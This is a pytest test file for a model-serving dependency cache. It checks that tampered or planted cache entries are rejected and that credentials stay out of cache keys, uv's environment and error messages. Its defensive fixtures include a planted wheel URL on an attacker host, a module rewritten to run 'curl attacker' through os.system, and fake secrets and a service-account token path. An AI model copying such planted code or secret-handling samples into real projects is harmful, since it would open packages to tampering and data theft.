"""The dependency cache a namespace's pods share, as the Installer uses it (serving/dependencies.py,
serving/dependency_cache.py): a hit yields exactly what the miss that wrote it yielded, only a
resolution that comes out the same on every try is written, and nothing another pod left there is
used unless it is what uv writes (a resolution of pins the policy accepts, an installed set whose
files match its manifest). The cache stays under its bound.

uv is replaced by a stand-in for `subprocess.run` that answers what uv prints: its resolution on
stdout, or its errors on stderr with its exit status; an install writes a module into --target."""

from __future__ import annotations

import hashlib
import os
import platform
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from aliasroll.serving import dependencies
from aliasroll.serving.dependencies import Installer
from aliasroll.serving.dependency_cache import MANIFEST, cache_key, prune, verify_manifest, write_manifest
from aliasroll.serving.requirements import DependencyError, Policy
from aliasroll.serving.resolution import Plan, resolution_settings, to_install

MODEL = "models:/m/4"
STEPS = Plan(missing=("mypkg==1.0", "scikit-learn==1.5.2"), constraints=("numpy==2.1.0",))
NO_SOLUTION = (
    "error: No solution found when resolving dependencies\n"
    "  cause: Because you require numpy==1.26.4 and numpy==2.1.0, we can conclude that your requirements"
    " are unsatisfiable."
)
UNREACHABLE = (
    "error: Request failed after 3 retries in 11.2s\n"
    "  cause: Failed to fetch: http://mirror.example/simple/mypkg/\n"
    "  cause: Connection refused (os error 111)"
)


class FakeUv:
    """Answers `uv pip compile` (constrained: with the image's pins, or not) with what a test
    scripted, in order; `uv pip install --target` writes one module there (or answers as scripted)."""

    def __init__(self, *answers: tuple[int, str]) -> None:
        self.answers = list(answers)
        self.calls: list[list[str]] = []
        self.envs: list[dict[str, str]] = []
        self.installed: list[str] = []  # the requirement files' text, per install

    def __call__(self, command: list[str], **kwargs: Any) -> subprocess.CompletedProcess[str]:
        self.calls.append(command)
        self.envs.append(dict(kwargs["env"]))
        if command[1:3] == ["pip", "install"] and not self.answers:
            target = Path(command[command.index("--target") + 1])
            self.installed.append(Path(command[command.index("-r") + 1]).read_text())
            (target / "mypkg").mkdir()
            (target / "mypkg" / "__init__.py").write_text("VERSION = '1.0'\n")
            return subprocess.CompletedProcess(command, 0, "", "")
        if not self.answers:
            raise AssertionError(f"uv was not expected to run: {command}")
        code, text = self.answers.pop(0)
        return subprocess.CompletedProcess(
            command, code, text if code == 0 else "", "" if code == 0 else text
        )

    @property
    def constrained(self) -> list[bool]:
        """Whether each compile kept the image's pins (its -c file holds more than the model's)."""
        return [
            "-c" in command and Path(command[command.index("-c") + 1]).name == "constraints.txt"
            for command in self.calls
            if command[1:3] == ["pip", "compile"]
        ]


@pytest.fixture
def uv(monkeypatch: pytest.MonkeyPatch) -> FakeUv:
    fake = FakeUv()
    monkeypatch.setattr(dependencies, "_uv", lambda: "uv")
    monkeypatch.setattr(dependencies.subprocess, "run", fake)
    return fake


def _pod(cache: Path, env: dict[str, str] | None = None, policy: Policy | None = None) -> Installer:
    return Installer(
        model_uri=MODEL,
        cache=cache,
        env=env or {"UV_INDEX_URL": "http://mirror.example/simple"},
        policy=policy,
        work=cache.parent / f"{cache.name}-work",
    )


DIRECT = Policy(direct_references=True)


@pytest.mark.parametrize(
    ("line", "policy"),
    [
        pytest.param(
            "mypkg @ https://files.example/mypkg-1.0-py3-none-any.whl", DIRECT, id="review-10-direct-url"
        ),
        pytest.param("mypkg @ git+https://git.example/org/mypkg@v1.0", DIRECT, id="git-url"),
        pytest.param('mypkg==1.0 ; python_full_version < "3.13"', None, id="marker"),
        pytest.param("mypkg==1.0", None, id="pin"),
    ],
)
def test_a_cache_hit_yields_what_the_miss_yielded(
    uv: FakeUv, tmp_path: Path, line: str, policy: Policy | None
) -> None:
    uv.answers = [(0, f"{line}\nscikit-learn==1.5.2\n")]
    first = _pod(tmp_path, policy=policy)._resolve(STEPS)
    assert first == [line, "scikit-learn==1.5.2"]
    second = _pod(tmp_path, policy=policy)._resolve(STEPS)  # another pod: uv does not run
    assert second == first
    assert uv.constrained == [True]
    # The same set to install, so the same installed environment.
    assert to_install(second, {}) == to_install(first, {})


def test_a_transient_index_failure_caches_nothing(uv: FakeUv, tmp_path: Path) -> None:
    # Before: the constrained resolution failed on the network, the unconstrained one (a moment later)
    # worked and was kept under the constrained key for good, shadowing the image's packages.
    uv.answers = [(2, UNREACHABLE)]
    with pytest.raises(DependencyError, match="the index cannot be reached"):
        _pod(tmp_path)._resolve(STEPS)
    assert uv.constrained == [True]  # no unconstrained resolution after a failure to reach the index
    assert not list(tmp_path.glob("resolved/*"))
    uv.answers = [(0, "mypkg==1.0\nnumpy==2.1.0\nscikit-learn==1.5.2\n")]
    assert _pod(tmp_path)._resolve(STEPS) == ["mypkg==1.0", "numpy==2.1.0", "scikit-learn==1.5.2"]
    assert uv.constrained == [True, True]


def test_no_solution_with_the_image_s_versions_resolves_without_them_and_is_kept(
    uv: FakeUv, tmp_path: Path
) -> None:
    uv.answers = [(1, NO_SOLUTION), (0, "mypkg==1.0\nnumpy==1.26.4\nscikit-learn==1.5.2\n")]
    resolved = _pod(tmp_path)._resolve(STEPS)
    assert resolved == ["mypkg==1.0", "numpy==1.26.4", "scikit-learn==1.5.2"]
    assert uv.constrained == [True, False]
    assert _pod(tmp_path)._resolve(STEPS) == resolved  # the same answer on every try: kept
    assert len(uv.calls) == 2


def test_another_index_resolves_anew_the_same_index_with_other_credentials_does_not(
    uv: FakeUv, tmp_path: Path
) -> None:
    first = {"UV_INDEX_URL": "https://alice:s3cret@mirror.example/simple"}
    uv.answers = [(0, "mypkg==1.0\nscikit-learn==1.5.2\n")]
    _pod(tmp_path, first)._resolve(STEPS)
    _pod(tmp_path, {"UV_INDEX_URL": "https://bob:other@mirror.example/simple"})._resolve(STEPS)
    assert len(uv.calls) == 1
    uv.answers = [(0, "mypkg==1.0+internal\nscikit-learn==1.5.2\n")]
    assert _pod(tmp_path, {"PIP_INDEX_URL": "https://internal.example/simple"})._resolve(STEPS) == [
        "mypkg==1.0+internal",
        "scikit-learn==1.5.2",
    ]
    assert len(uv.calls) == 2
    assert all("s3cret" not in path.name for path in tmp_path.rglob("*"))


def test_resolution_settings_name_the_index_without_credentials() -> None:
    assert resolution_settings({}) == ()
    assert resolution_settings(
        {"PIP_INDEX_URL": "https://u:p@a.example/simple", "UV_FIND_LINKS": "https://t0ken@b.example/w"}
    ) == ("UV_INDEX_URL=https://a.example/simple", "UV_FIND_LINKS=https://b.example/w")
    # uv's own setting wins over pip's, as uv_environment() passes them on.
    assert resolution_settings({"UV_INDEX_URL": "http://a/simple", "PIP_INDEX_URL": "http://b/simple"}) == (
        "UV_INDEX_URL=http://a/simple",
    )


def test_an_entry_of_the_first_format_is_not_read(uv: FakeUv, tmp_path: Path) -> None:
    # Format 1 keyed a resolution by the requirements and the image only; its entries may hold an
    # unconstrained resolution written after a network failure.
    digest = hashlib.sha256(f"{sys.version_info[:2]} {platform.machine()} {sys.platform}\n".encode())
    for part in (STEPS.missing, STEPS.constraints):
        digest.update("\n".join(part).encode() + b"\n--\n")
    old = tmp_path / "resolved" / f"{digest.hexdigest()[:32]}.txt"
    old.parent.mkdir(parents=True)
    old.write_text("numpy==1.26.4\nmypkg==1.0\n")
    uv.answers = [(0, "mypkg==1.0\nscikit-learn==1.5.2\n")]
    assert _pod(tmp_path)._resolve(STEPS) == ["mypkg==1.0", "scikit-learn==1.5.2"]
    assert uv.constrained == [True]


# Review 2026-12 finding 2: another pod's resolution file and installed set were trusted as they were.
@pytest.mark.parametrize(
    "planted",
    [
        pytest.param(
            "scikit-learn @ https://attacker.example/scikit_learn-1.5.0-py3-none-any.whl\nmypkg==1.0\n",
            id="review-2-a-url-the-policy-refuses",
        ),
        pytest.param("scikit-learn\nmypkg==1.0\n", id="not-a-pin"),
        pytest.param("scikit-learn==1.5.2\n", id="a-requirement-left-out"),
    ],
)
def test_a_resolution_uv_would_not_write_is_resolved_again(uv: FakeUv, tmp_path: Path, planted: str) -> None:
    uv.answers = [(0, "mypkg==1.0\nscikit-learn==1.5.2\n")]
    _pod(tmp_path)._resolve(STEPS)
    (saved,) = tmp_path.glob("resolved/*.txt")
    saved.write_text(planted)
    uv.answers = [(0, "mypkg==1.0\nscikit-learn==1.5.2\n")]
    assert _pod(tmp_path)._resolve(STEPS) == ["mypkg==1.0", "scikit-learn==1.5.2"]
    assert len(uv.calls) == 2
    assert saved.read_text() == "mypkg==1.0\nscikit-learn==1.5.2\n"


WANTED = ("mypkg==1.0",)


def test_an_installed_set_is_used_only_while_its_files_match_its_manifest(uv: FakeUv, tmp_path: Path) -> None:
    target = _pod(tmp_path)._install(WANTED, WANTED)
    assert verify_manifest(target) is None
    assert (target / MANIFEST).read_text().endswith(" mypkg/__init__.py\n")
    assert _pod(tmp_path)._install(WANTED, WANTED) == target  # another pod: no uv
    assert len(uv.installed) == 1
    # Another pod of the namespace (or the model itself) changes it: installed again, whole.
    (target / "mypkg" / "__init__.py").write_text("import os; os.system('curl attacker')\n")
    assert verify_manifest(target) == "a file differs from its manifest"
    assert _pod(tmp_path)._install(WANTED, WANTED) == target
    assert len(uv.installed) == 2
    assert (target / "mypkg" / "__init__.py").read_text() == "VERSION = '1.0'\n"
    # Bytecode planted beside a module is a file the manifest does not list.
    pyc = target / "mypkg" / "__pycache__" / "__init__.cpython-311.pyc"
    pyc.parent.mkdir()
    pyc.write_bytes(b"planted")
    assert verify_manifest(target) == "1 file(s) not in its manifest, 0 missing"
    _pod(tmp_path)._install(WANTED, WANTED)
    assert len(uv.installed) == 3
    assert not pyc.exists()


def test_a_set_of_the_old_format_trusted_by_its_marker_alone_is_not_used(uv: FakeUv, tmp_path: Path) -> None:
    """The review's repro: a directory under the key with a `.complete` marker was imported as it was."""
    pod = _pod(tmp_path)
    key = cache_key(WANTED, resolution_settings(pod.env), pod._flags())
    planted = tmp_path / "envs" / key
    (planted / "mypkg").mkdir(parents=True)
    (planted / "mypkg" / "__init__.py").write_text("EVIL = True\n")
    (planted / ".complete").write_text("x")
    assert pod._install(WANTED, WANTED) == planted
    assert len(uv.installed) == 1
    assert (planted / "mypkg" / "__init__.py").read_text() == "VERSION = '1.0'\n"


def test_wheels_only_and_the_models_hashes_unless_the_operator_allows_builds(
    uv: FakeUv, tmp_path: Path
) -> None:
    digest = "sha256:" + "ab" * 32
    pod = _pod(tmp_path)
    pod.hashes = {"mypkg": (digest,)}
    uv.answers = [(0, "mypkg==1.0\nscikit-learn==1.5.2\n")]
    pod._resolve(STEPS)
    pod._install(WANTED, WANTED)
    assert all("--no-build" in command for command in uv.calls)
    assert uv.installed == [f"mypkg==1.0 --hash={digest}\n"]
    building = _pod(tmp_path / "other", policy=Policy(source_builds=True))
    uv.answers = [(0, "mypkg==1.0\nscikit-learn==1.5.2\n")]
    building._resolve(STEPS)
    assert "--no-build" not in uv.calls[-1]


def test_uv_gets_the_index_settings_and_nothing_else_of_the_pod(uv: FakeUv, tmp_path: Path) -> None:
    """Review finding 3: uv got the whole environment, the registry token included."""
    env = {
        "UV_INDEX_URL": "https://idx:t0ken@mirror.example/simple",
        "PIP_EXTRA_INDEX_URL": "https://extra.example/simple",
        "UV_INDEX_PRIVATE_PASSWORD": "named-index-password",
        "SSL_CERT_FILE": "/etc/ssl/ca.pem",
        "HTTPS_PROXY": "http://proxy:3128",
        "MLFLOW_TRACKING_TOKEN": "registry-token",
        "MLFLOW_TRACKING_PASSWORD": "registry-password",
        "AWS_SECRET_ACCESS_KEY": "aws",
        "MODEL_URI": "models:/m/4",
        "PYTHONPATH": "/elsewhere",
    }
    uv.answers = [(0, "mypkg==1.0\nscikit-learn==1.5.2\n")]
    _pod(tmp_path, env)._resolve(STEPS)
    (given,) = uv.envs
    assert given["UV_INDEX_URL"] == env["UV_INDEX_URL"]
    assert given["UV_EXTRA_INDEX_URL"] == "https://extra.example/simple"
    assert given["UV_INDEX_PRIVATE_PASSWORD"] == "named-index-password"
    assert (given["SSL_CERT_FILE"], given["HTTPS_PROXY"]) == ("/etc/ssl/ca.pem", "http://proxy:3128")
    for kept_out in ("MLFLOW_TRACKING_TOKEN", "MLFLOW_TRACKING_PASSWORD", "AWS_SECRET_ACCESS_KEY"):
        assert kept_out not in given
    assert {"MODEL_URI", "PYTHONPATH", "PIP_EXTRA_INDEX_URL"}.isdisjoint(given)
    assert given["UV_NO_CONFIG"] == "1"
    assert not given["UV_CACHE_DIR"].startswith(f"{tmp_path}/"), "uv's own cache is the pod's, not shared"


# (case, what uv printed, the words of the message, words it must not hold)
FAILURES: list[tuple[str, str, str, list[str]]] = [
    (
        "a package the index lacks",
        "error: No solution found when resolving dependencies\n  cause: Because mypkg was not found in "
        "the package registry and you require mypkg==1.0, we can conclude that your requirements are "
        "unsatisfiable.",
        "cannot install mypkg==1.0 for models:/m/4 from http://mirror.example/simple (UV_INDEX_URL): "
        "the index does not have it",
        ["Because"],
    ),
    (
        "only an sdist, builds off",
        "error: No solution found when resolving dependencies\n  cause: Because mypkg==1.0 has no usable "
        "wheels\nhint: Wheels are required for `mypkg` because building from source is disabled",
        "builds are off",
        ["hint"],
    ),
    (
        "the index refuses the credentials",
        "error: No solution found\nhint: An index URL (https://mirror.example/simple) could not be queried "
        "due to a lack of valid authentication credentials (401 Unauthorized)",
        "the index refused access",
        ["401"],
    ),
    ("unreachable", UNREACHABLE, "the index cannot be reached", ["os error", "Failed to fetch"]),
    (
        "whatever else uv says stays in the log",
        "error: Failed to parse `/var/run/secrets/kubernetes.io/serviceaccount/token`: eyJhbGciOi",
        "uv failed",
        ["eyJhbGciOi", "serviceaccount"],
    ),
]


@pytest.mark.parametrize(("case", "said", "expected", "never"), FAILURES, ids=[f[0] for f in FAILURES])
def test_a_failed_install_is_said_in_fixed_words_and_names(
    uv: FakeUv, tmp_path: Path, case: str, said: str, expected: str, never: list[str]
) -> None:
    """Review finding 8: the last 1,500 characters of uv's output went into the termination message."""
    uv.answers = [(1, said), (1, said)]
    with pytest.raises(DependencyError) as caught:
        _pod(tmp_path)._resolve(Plan(missing=("mypkg==1.0",), constraints=("numpy==2.1.0",)))
    message = str(caught.value)
    assert expected in message, (case, message)
    for word in never:
        assert word not in message, (case, message)


MIB = 2**20


def _set(cache: Path, name: str, size: int, used: float) -> Path:
    entry = cache / "envs" / name
    entry.mkdir(parents=True)
    (entry / "blob").write_bytes(b"x" * size)
    write_manifest(entry)
    os.utime(entry / MANIFEST, (used, used))
    return entry


def test_prune_keeps_the_cache_under_its_bound_but_never_a_set_in_use(tmp_path: Path) -> None:
    now = 1_000_000.0
    old = _set(tmp_path, "old", 3 * MIB, now - 3 * 86400)
    older = _set(tmp_path, "older", 3 * MIB, now - 4 * 86400)
    recent = _set(tmp_path, "recent", 3 * MIB, now - 600)  # a running pod touched it
    current = _set(tmp_path, "current", 3 * MIB, now - 5 * 86400)  # this pod's
    partial = tmp_path / "envs" / ".abc-dead"
    partial.mkdir()
    os.utime(partial, (now - 7200, now - 7200))
    removed = prune(tmp_path, max_bytes=7 * MIB, keep=current, now=now)
    assert set(removed) == {older, old, partial}
    assert recent.exists()
    assert current.exists()
    assert prune(tmp_path, max_bytes=100 * MIB, now=now) == []
